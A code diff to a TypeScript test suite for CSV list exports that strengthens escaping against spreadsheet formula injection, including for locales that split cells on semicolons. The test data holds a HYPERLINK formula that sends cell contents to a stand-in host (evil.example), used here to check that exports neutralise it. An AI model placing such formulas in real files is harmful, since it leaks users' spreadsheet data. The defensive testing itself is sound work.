@@ -34,12 +34,21 @@ const PASSWORD = 'Str0ng@Pass';
 const DEFAULT_EXPORT = { ...EXPORT_PLAN };
 const TODAY = () => new Date().toISOString().slice(0, 10);
 
-/** The cell the rules ask for, from the value the JSON answer holds. */
+/** A title that becomes three cells, the middle one a formula, where Excel splits on `;` (Turkish, German). */
+const SEMICOLON_FORMULA = 'Nice trip;=HYPERLINK("http://evil.example/?d="&A1,"Click");x';
+
+/**
+ * The cell the rules ask for, from the value the JSON answer holds: each piece of a text (after a `,`,
+ * `;`, tab or line break) that starts with a formula character, after spaces or quotes, gets a `'`.
+ */
 function cellOf(value: unknown): string {
   if (value === null || value === undefined) return '';
   if (typeof value === 'number') return String(value);
   const text = typeof value === 'string' ? value : JSON.stringify(value);
-  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
+  return text
+    .split(/(?<=[,;\t\r\n])/)
+    .map((piece) => (/^(?:[\s"]*[=+\-@]|[\t\r])/.test(piece) ? `'${piece}` : piece))
+    .join('');
 }
 
 type Row = Record<string, unknown>;
@@ -123,6 +132,10 @@ describe.each(dialects)('list exports as CSV on %s', (dialect) => {
           deleted_at: null,
         })),
       )
+      .execute();
+    await t.ctx.db
+      .insertInto('posts')
+      .values({ type: 'post', user_id: turkish, title: SEMICOLON_FORMULA, description: 'x; -1', latitude: null, longitude: null, itinerary_date: null, is_planeed: '0', is_public: 1, created_at: stamp(30), updated_at: stamp(30), deleted_at: null })
       .execute();
     // names a spreadsheet would run, and names that need quoting
     await insertNamedRows(t.ctx.db, 'categories', [
@@ -249,6 +262,11 @@ describe.each(dialects)('list exports as CSV on %s', (dialect) => {
     // as written: quoted, quotes doubled, CRLF inside the quotes
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
     expect(text).toContain('"Çay, ""simit""\r\nve deniz"');
+    // every text cell quoted, each piece a `;` locale would split off neutralised, as the bytes are written
+    const trip = await get(`/api/post?type=post&format=csv&filter=${encodeURIComponent('nice trip')}`);
+    const [head, line] = trip.rawPayload.subarray(3).toString('utf8').split('\r\n');
+    expect(head.split(',').slice(0, 3)).toEqual(['"id"', '"type"', '"title"']);
+    expect(line).toContain(`,"Nice trip;'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"");x","x;' -1",`);
     // a number stays a number, a negative one too: no spreadsheet runs -5
     const posts = await exported(named('post'), { order: order('sequence', 'ASC') });
     expect(posts.lines[0][posts.header.indexOf('sequence')]).toBe('-5');
@@ -306,7 +324,8 @@ describe.each(dialects)('list exports as CSV on %s', (dialect) => {
     const first = await get(url);
     expect(first.statusCode).toBe(200);
     expect(parseCsv(first.rawPayload.subarray(3).toString('utf8')).length).toBe(1);
-    expect(t.ctx.answerCache.size).toBe(before);
+    // an export is written to the audit trail, a write, which forgets every kept answer: none is added
+    expect(t.ctx.answerCache.size).toBeLessThanOrEqual(before);
     const added = await t.app.inject({ method: 'POST', url: '/api/tag/create', headers: bearer(admin), payload: { name: ['lantern walk'], status: ['Active'] } });
     expect(added.statusCode, added.body).toBe(200);
     const again = parseCsv((await get(url)).rawPayload.subarray(3).toString('utf8'));
@@ -316,7 +335,7 @@ describe.each(dialects)('list exports as CSV on %s', (dialect) => {
     expect((await get('/api/tag?filter=lantern')).json().data.data).toHaveLength(1);
     expect(t.ctx.answerCache.size).toBe(1);
     expect((await get(url)).headers['content-type']).toBe('text/csv; charset=utf-8');
-    expect(t.ctx.answerCache.size).toBe(1);
+    expect(t.ctx.answerCache.size).toBe(0);
   });
 
   describe('streaming', () => {
